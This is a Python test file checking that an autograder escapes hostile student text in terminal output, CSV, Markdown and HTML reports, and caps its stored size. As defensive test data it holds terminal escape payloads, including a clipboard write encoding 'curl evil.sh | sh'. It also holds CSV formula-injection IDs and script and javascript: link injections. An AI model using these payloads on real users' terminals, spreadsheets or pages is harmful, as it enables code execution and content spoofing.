"""What a student wrote reaches a person inert: escaped on a terminal, as text in a spreadsheet,
literal in a Markdown or HTML report, and capped where it is stored."""
import csv
import json
import subprocess
import sys
import unicodedata

import pytest

from autograder.instructor.analytics import analyse, blocks, html_page, markdown, terminal_text
from autograder.instructor.grade import BatchReport, write_csv
from autograder.instructor.reference import copy_reference_lib
from autograder.instructor.regrade import compare
from autograder.results import Results, TestResult as CheckResult  # not "Test...": pytest would collect it
from autograder.text_safety import BIDI_CONTROLS, OUTPUT_HEAD, OUTPUT_TAIL, capped, for_csv, for_terminal
from conftest import ROOT

# What a hostile message holds: an OSC 52 clipboard write, a CSI line erase, a carriage return
# that overwrites the line with a fake row, a C1 CSI, a NUL, a bidi override, a DEL.
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
HOSTILE = f"oops{CLIPBOARD}\x1b[2K\rtotal  24 / 24\x9b31m\x00\u202eevil\x7f"


def raw_controls(text):
    """The characters of `text` a terminal would act on (all but newline and tab), and bidi controls."""
    return [c for c in text if (unicodedata.category(c) == "Cc" and c not in "\n\t") or c in BIDI_CONTROLS]


def test_every_control_character_is_shown_escaped_and_newlines_and_tabs_are_kept():
    shown = for_terminal(HOSTILE + "\nnext\tline")
    assert raw_controls(shown) == []
    for escape in ("\\x1b]52;c;", "\\x07", "\\x1b[2K", "\\x0d", "\\x9b", "\\x00", "\\u202e", "\\x7f"):
        assert escape in shown
    assert shown.endswith("\nnext\tline") and "total  24 / 24" in shown


def test_the_results_table_escapes_the_students_message():
    results = Results([CheckResult("svm_loss_naive_gradient", 0.0, 3.0, HOSTILE),
                       CheckResult("svm_loss_naive_lecture_example", 2.0, 2.0, "Verified.")])
    table = results.table()
    assert raw_controls(table) == [] and "\\x1b]52;c;" in table
    totals = [line.split() for line in table.splitlines() if line.startswith("total")]
    assert totals == [["total", "2", "/", "5"]], "the message made a row of its own"


@pytest.mark.parametrize("length", [10**6, OUTPUT_HEAD + OUTPUT_TAIL + 1])
def test_a_long_message_is_stored_capped_with_its_head_and_tail(tmp_path, length):
    message = "H" * OUTPUT_HEAD + "m" * (length - OUTPUT_HEAD - OUTPUT_TAIL) + "T" * OUTPUT_TAIL
    Results([CheckResult("check", 0.0, 1.0, message)]).write(tmp_path / "results.json")
    stored = json.loads((tmp_path / "results.json").read_text())["tests"][0]["output"]
    assert stored.startswith("H" * OUTPUT_HEAD) and stored.endswith("T" * OUTPUT_TAIL)
    assert f"{length - OUTPUT_HEAD - OUTPUT_TAIL} characters cut" in stored
    assert len(stored) < OUTPUT_HEAD + OUTPUT_TAIL + 200
    assert capped("short") == "short"


def test_a_forged_results_file_is_capped_when_read_back(tmp_path):
    forged = {"score": 0.0, "max_score": 1.0, "execution_time": 0.0, "extra_data": {},
              "tests": [{"name": "check", "score": 0.0, "max_score": 1.0, "status": "failed",
                         "output": "x" * 10**6, "visibility": "visible"}]}
    (tmp_path / "forged.json").write_text(json.dumps(forged))
    assert len(Results.read(tmp_path / "forged.json").tests[0].output) < OUTPUT_HEAD + OUTPUT_TAIL + 200


FORMULA_IDS = ["=HYPERLINK(\"http://evil\",\"ok\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]


def test_the_csv_writes_formula_like_student_ids_as_text_and_scores_as_numbers(tmp_path):
    students = FORMULA_IDS + ["\r=1", "ada", "-5"]
    results = {student: Results([CheckResult("check", 1.0, 2.0, "x")]) for student in students}
    write_csv(tmp_path / "grades.csv", results)
    with open(tmp_path / "grades.csv", newline="") as f:
        rows = list(csv.reader(f))
    ids = [row[0] for row in rows[1:]]
    # A CR would end the row: it is shown as an escape, which starts no formula.
    assert sorted(ids) == sorted(["'" + s for s in FORMULA_IDS] + ["\\x0d=1", "ada", "-5"])
    for row in rows[1:]:
        assert [float(cell) for cell in row[1:]] == [1.0, 2.0, 1.0]
    assert for_csv("-1.5e3") == "-1.5e3" and for_csv("12") == "12"


def test_the_batch_summary_escapes_student_ids_and_failure_reasons():
    report = BatchReport(results={f"eve{HOSTILE}": Results([CheckResult("check", 0.0, 1.0, "x")])},
                         failed={f"eve{HOSTILE}": f"the grader failed (ValueError: {HOSTILE})"})
    assert raw_controls(report.summary()) == [] and "\\x1b]52;c;" in report.summary()


def test_the_regrade_changes_escape_student_ids():
    before = {f"eve{HOSTILE}": Results([CheckResult("check", 0.0, 1.0, "x")], extra_data={"grader_version": "1"})}
    after = {f"eve{HOSTILE}": Results([CheckResult("check", 1.0, 1.0, "ok")], extra_data={"grader_version": "2"})}
    text = compare(before, after, "svm", 1).report()
    assert raw_controls(text) == [] and "eveoops\\x1b]52;c;" in text


MARKUP = "<script>alert(1)</script> | ![x](http://evil/x.png) [click](javascript:alert(1)) *bold* `code`"


@pytest.fixture
def hostile_batch(tmp_path):
    """A batch where a student's failure message holds markup and control characters."""
    def results(message):
        return Results([CheckResult("svm_loss_naive_gradient", 0.0, 3.0, message),
                        CheckResult("svm_loss_naive_lecture_example", 2.0, 2.0, "Verified.")],
                       1.0, {"assignment": "svm", "seed": 1, "grader_version": "x"})

    results(MARKUP + HOSTILE).write(tmp_path / "eve.json")
    results("the loss is off by 2").write(tmp_path / "ada.json")
    return analyse(tmp_path)


def test_the_analytics_terminal_table_escapes_control_characters(hostile_batch):
    text = terminal_text(hostile_batch)
    assert raw_controls(text) == [] and "\\x1b]52;c;" in text


def test_the_markdown_report_shows_student_text_literally(hostile_batch):
    text = markdown(blocks(hostile_batch))
    assert "<script>" not in text and "&lt;script&gt;" in text
    assert "![x](" not in text and "[click](" not in text and "*bold*" not in text and "`code`" not in text
    row = next(line for line in text.splitlines() if "alert" in line)
    assert row.count(" | ") == 3, "the student's | made a table column of its own"
    assert raw_controls(text) == []
    assert "svm_loss_naive_gradient" in text  # check names keep their underscores readable


def test_the_html_report_shows_student_text_literally(hostile_batch):
    text = html_page(blocks(hostile_batch), "report")
    assert "<script>" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert raw_controls(text.replace("\n", "")) == []


@pytest.mark.slow  # a subprocess of the real command
def test_check_prints_a_hostile_exception_message_escaped(tmp_path):
    """End to end: the student's own code raises with control characters; `autograder check`
    prints them escaped."""
    copy_reference_lib(tmp_path)
    module = tmp_path / "lib" / "linear_svm.py"
    raising = f"\n\ndef svm_loss_naive(W, X, y, reg):\n    raise ValueError({HOSTILE!r})\n"
    module.write_text(module.read_text() + raising)
    completed = subprocess.run([sys.executable, "-m", "autograder", "check", "svm", "--dir", str(tmp_path)],
                               capture_output=True, text=True, cwd=ROOT, timeout=600)
    assert completed.returncode == 1, completed.stderr[-2000:]
    assert "ValueError" in completed.stdout and "\\x1b]52;c;" in completed.stdout
    assert raw_controls(completed.stdout) == []


@pytest.mark.slow  # a subprocess of the real command
def test_a_forged_megabyte_error_message_is_not_stored_whole_per_check(tmp_path):
    """End to end: the student's loss functions raise with a 1 MB message; results.json keeps at
    most the capped message per check (the wire may cut it sooner; the cap holds either way)."""
    copy_reference_lib(tmp_path)
    module = tmp_path / "lib" / "linear_svm.py"
    raising = ("\n\ndef svm_loss_naive(W, X, y, reg):\n    raise ValueError('A' * 10**6)\n\n"
               "svm_loss_vectorized = svm_loss_naive\n")
    module.write_text(module.read_text() + raising)
    out = tmp_path / "results.json"
    completed = subprocess.run([sys.executable, "-m", "autograder", "grade", str(tmp_path), "--assignment", "svm",
                                "--seed", "1", "--out", str(out), "--quiet"], capture_output=True, text=True, cwd=ROOT,
                               timeout=600)
    assert completed.returncode == 0, completed.stderr[-2000:]
    results = json.loads(out.read_text())
    assert results["score"] < results["max_score"]
    assert max(len(t["output"]) for t in results["tests"]) < OUTPUT_HEAD + OUTPUT_TAIL + 200
    assert out.stat().st_size < len(results["tests"]) * (OUTPUT_HEAD + OUTPUT_TAIL + 1000)


def test_the_notes_on_a_submission_are_stored_capped_too(tmp_path):
    results = Results([CheckResult("check", 0.0, 1.0, "x")])
    results.output = "note " * 10**5   # set after construction, as the channels do
    results.write(tmp_path / "results.json")
    assert len(json.loads((tmp_path / "results.json").read_text())["output"]) < OUTPUT_HEAD + OUTPUT_TAIL + 200
